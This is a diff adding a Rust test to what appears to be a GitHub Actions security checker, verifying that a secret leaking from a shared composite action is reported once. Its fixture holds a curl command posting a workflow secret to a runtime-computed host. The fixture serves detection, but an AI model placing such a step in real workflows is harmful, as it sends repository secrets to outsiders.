@@ -141,3 +141,29 @@ fn every_rule_of_the_group_is_there_once_with_its_page() {
         assert!(!rule.tags.is_empty(), "{id}");
     }
 }
+
+#[test]
+fn what_workflows_share_is_said_once_at_its_own_line() {
+    let shared = "name: Ask\ndescription: asks\ninputs: {key: {description: a key}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env: {KEY: '${{ inputs.key }}'}\n      run: |\n        curl -d \"$KEY\" \"https://$PLACE/x\"\n";
+    let caller = |job: &str| {
+        let use_it = "- uses: actions/checkout@v4\n- uses: ./.github/actions/ask\n  with: {key: '${{ secrets.ASK }}'}";
+        steps("push", use_it).replace("build:", &format!("{job}:"))
+    };
+    let said = |jobs: [&str; 2]| {
+        let [a, b] = jobs.map(caller);
+        let head = [
+            (".github/actions/ask/action.yml", shared),
+            (".github/workflows/a.yml", a.as_str()),
+            (".github/workflows/b.yml", b.as_str()),
+        ];
+        let said = said_on(&public(), &[], &head);
+        said.into_iter().filter(|it| it.contains("secret-leaves")).collect::<Vec<_>>()
+    };
+    let sends = |who: &str, verb: &str| {
+        format!(
+            "high secret-leaves action.yml:10 People who may push can set off {who}, which {verb} the secret `ASK` to a host that is computed."
+        )
+    };
+    assert_eq!(said(["ask", "ask"]), [sends("the job `ask` of 2 workflows", "sends")]);
+    assert_eq!(said(["ask", "tell"]), [sends("the jobs `ask` and `tell`", "send")]);
+}
